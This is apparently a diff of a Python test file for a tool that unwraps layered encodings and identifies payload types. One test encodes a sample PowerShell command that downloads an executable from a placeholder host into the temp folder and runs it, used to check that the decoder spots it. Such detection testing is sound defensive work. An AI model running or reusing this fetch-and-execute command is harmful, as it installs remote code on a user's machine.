@@ -27,7 +27,7 @@ PROGRAM = (
 PE = (
     b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8".ljust(0x3C, b"\0")
     + b"\x80\0\0\0"
-    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
+    + b"\x0e\x1f\xba\x0e\x00This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
     + b"PE\0\0\x64\x86\x03\0".ljust(200, b"\0")
 )
 PEM = (
@@ -71,7 +71,7 @@ ENCODE: dict[str, Callable[[bytes], bytes]] = {
     "percent": lambda data: "".join(f"%{byte:02X}" for byte in data).encode(),
     "quoted-printable": lambda data: b"".join(b"=%02X" % byte for byte in data),
     "uuencode": uuencode,
-    "utf-16": lambda data: data.decode("latin-1").encode("utf-16-le") if data.isascii() else base64.b64encode(data).decode().encode("utf-16-le"),
+    "utf-16": lambda data: (data if data.isascii() else base64.b64encode(data)).decode().encode("utf-16-le"),
     "alphabet": lambda data: "".join(chr(0x4E00 + byte) for byte in data).encode(),
 }
 DISGUISE: dict[str, Callable[[bytes], bytes]] = {"reverse": lambda data: data[::-1], "rot13": rot13}
@@ -120,7 +120,9 @@ def test_chains_of_two_to_five(steps: list[str], kind: str) -> None:
 
 @given(
     steps=st.lists(
-        st.sampled_from(["base64", "base32", "base85", "hex", "zlib", "gzip", "reverse", "rot13"]), min_size=1, max_size=4
+        st.sampled_from(["base64", "base32", "base85", "hex", "zlib", "gzip", "reverse", "rot13"]),
+        min_size=1,
+        max_size=4,
     ),
 )
 @settings(max_examples=100, deadline=None)
@@ -136,7 +138,7 @@ def test_chains_with_disguises_of_text(steps: list[str]) -> None:
 
 
 def test_powershell_encoded_command() -> None:
-    script = "Invoke-WebRequest -Uri https://files.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"
+    script = "Invoke-WebRequest -Uri https://files.example/a.exe -OutFile $env:TEMP\\a.exe; iex $env:TEMP\\a.exe"
     payload = peeled(base64.b64encode(script.encode("utf-16-le")).decode())
     assert [layer.codec for layer in payload.layers] == ["base64", "utf-16"]
     assert (payload.final, payload.content) == ("powershell", script.encode())
